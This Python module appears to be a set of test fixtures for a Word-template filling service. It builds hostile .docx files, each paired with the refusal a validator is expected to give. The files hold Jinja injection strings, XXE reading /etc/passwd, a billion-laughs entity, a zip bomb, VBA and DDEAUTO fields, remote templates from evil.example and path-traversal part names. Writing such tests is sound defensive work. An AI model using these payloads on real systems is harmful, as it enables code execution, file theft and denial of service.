"""Word files that mean harm: each a change of a good template, with the refusal it must meet."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

from states.documents.base_templates import base_template

BODY, RELS, TYPES = "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"
HEADER, STYLES, PROPERTIES = "word/header1.xml", "word/styles.xml", "docProps/core.xml"
GOOD = "qd_cong_nhan"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATION = f'<Relationship Id="rIdX" Type="{OFFICE}/{{}}" Target="{{}}" TargetMode="External"/>'
NAMESPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def parts(content: bytes) -> dict[str, bytes]:
    """A package taken apart."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(members: dict[str, bytes]) -> bytes:
    """And put together."""
    book = io.BytesIO()
    with zipfile.ZipFile(book, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return book.getvalue()


def saying(text: str, part: str = BODY) -> bytes:
    """The good template with a paragraph that says this, in its body or another part."""
    members = parts(base_template(GOOD))
    written = text.replace("&", "&amp;").replace("<", "&lt;")
    paragraph = f"<w:p><w:r><w:t>{written}</w:t></w:r></w:p>".encode()
    before = {BODY: b"<w:sectPr", HEADER: b"</w:hdr>"}[part]
    at = members[part].rindex(before)
    members[part] = members[part][:at] + paragraph + members[part][at:]
    return packed(members)


def with_part(name: str, content: bytes) -> bytes:
    """The good template with one part more, or another in its place."""
    return packed({**parts(base_template(GOOD)), name: content})


def changed(part: str, old: bytes, new: bytes) -> bytes:
    """The good template with a part rewritten."""
    members = parts(base_template(GOOD))
    assert old in members[part], (part, old)
    return with_part(part, members[part].replace(old, new, 1))


def in_table(text: str) -> bytes:
    """The tag in a cell of the head's table."""
    return changed(BODY, "CỘNG HÒA".encode(), text.encode() + "CỘNG HÒA".encode())


def related(kind: str, target: str) -> bytes:
    """A relationship that leads outside."""
    return changed(RELS, b"</Relationships>", RELATION.format(kind, target).encode() + b"</Relationships>")


def element(xml: str) -> bytes:
    """An element in the body."""
    return changed(BODY, b"<w:sectPr", xml.encode() + b"<w:sectPr")


def twice() -> bytes:
    """A package with two parts of one name but for its letters."""
    return with_part("word/Document.xml", b"<x/>")


NOTE = '<w:footnote w:id="1"><w:p><w:r><w:t>{{ x() }}</w:t></w:r></w:p></w:footnote>'
FOOTNOTES = f"<w:footnotes {NAMESPACE}>{NOTE}</w:footnotes>".encode()
MANY = {f"word/theme/t{number}.xml": b"<x/>" for number in range(300)}
SPLIT = "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in ("INCLUDE", "TEXT x"))
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'

HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "code_by_class": (lambda: saying("{{ nguoi.__class__.__mro__ }}"), "construct"),
    "code_by_call": (lambda: saying("{{ nguoi.ten.upper() }}"), "construct"),
    "code_by_globals": (lambda: saying("{{ cycler.__init__.__globals__ }}"), "construct"),
    "code_by_index": (lambda: saying("{{ nguoi['__class__'] }}"), "construct"),
    "code_in_a_header": (lambda: saying("{{ self.__init__ }}", HEADER), "construct"),
    "code_in_a_footnote": (lambda: with_part("word/footnotes.xml", FOOTNOTES), "construct"),
    "code_in_a_table": (lambda: in_table("{{ lipsum.__globals__ }}"), "construct"),
    "code_in_the_title": (lambda: changed(PROPERTIES, "Quyết định công nhận".encode(), b"{{ range(9) }}"), "construct"),
    "code_split_over_runs": (
        lambda: element("<w:p><w:r><w:t>{{ nguoi.__cl</w:t></w:r><w:r><w:t>ass__ }}</w:t></w:r></w:p>"), "construct",
    ),
    "include": (lambda: saying("{% include '/etc/passwd' %}"), "construct"),
    "import": (lambda: saying("{% import 'os' as os %}"), "construct"),
    "macro_of_jinja": (lambda: saying("{% macro m() %}{% endmacro %}"), "construct"),
    "set": (lambda: saying("{% set x = 1 %}"), "construct"),
    "a_long_loop": (lambda: saying("{% for x in range(10**9) %}{{ x }}{% endfor %}"), "loop"),
    "a_loop_over_itself": (
        lambda: saying("{% for a in danh_sach %}{% for b in danh_sach %}x{% endfor %}{% endfor %}"), "loop",
    ),
    "a_recursive_loop": (lambda: saying("{% for a in danh_sach recursive %}{{ loop(a) }}{% endfor %}"), "loop"),
    "a_long_text": (lambda: saying("{{ 'a' * 10**9 }}"), "construct"),
    "a_big_power": (lambda: saying("{{ 9**9**9 }}"), "construct"),
    "a_wide_filter": (lambda: saying("{{ nguoi.ten|center(999999999) }}"), "filter"),
    "deep_conditions": (lambda: saying("{% if so_vang %}" * 9 + "x" + "{% endif %}" * 9), "too_deep"),
    "very_many_tags": (lambda: saying("{{ so_vang }}" * 3000), "too_many_tags"),
    "an_unknown_tag": (lambda: saying("{{ mat_khau }}"), "unknown_tag"),
    "a_zip_bomb": (lambda: with_part(STYLES, b" " * 30_000_000), "swollen"),
    "thousands_of_parts": (lambda: packed({**parts(base_template(GOOD)), **MANY}), "swollen"),
    "entities": (lambda: with_part(STYLES, LAUGHS), "entity"),
    "outside_entity": (lambda: with_part("customXml/item1.xml", XXE), "entity"),
    "outside_entity_in_utf16": (lambda: with_part("customXml/item1.xml", XXE.decode().encode("utf-16")), "entity"),
    "vba": (lambda: with_part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "macro"),
    "macro_enabled": (
        lambda: changed(TYPES, b"wordprocessingml.document.main+xml", b"macroEnabled.main+xml"), "macro",
    ),
    "attached_template": (lambda: related("attachedTemplate", "http://evil.example/t.dotm"), "external"),
    "linked_picture": (lambda: related("image", "file://evil.example/share/x.png"), "external"),
    "path_upwards": (lambda: with_part("word/../../../etc/cron.d/x.xml", b"<x/>"), "part"),
    "absolute_path": (lambda: with_part("/etc/cron.d/x.xml", b"<x/>"), "part"),
    "same_name_twice": (twice, "part"),
    "embedded_object": (lambda: with_part("word/embeddings/oleObject1.bin", b"x"), "macro"),
    "other_file_inside": (lambda: element('<w:altChunk w:id="rId1"/>'), "object"),
    "field_that_runs": (lambda: element('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd"/></w:p>'), "field"),
    "field_split_over_runs": (
        lambda: element(f"<w:p>{SPLIT}</w:p>"),
        "field",
    ),
    "no_zip": (lambda: b"PK\x03\x04 but no zip", "damaged"),
    "broken_xml": (lambda: with_part(STYLES, b"<w:styles"), "damaged"),
}  # fmt: skip
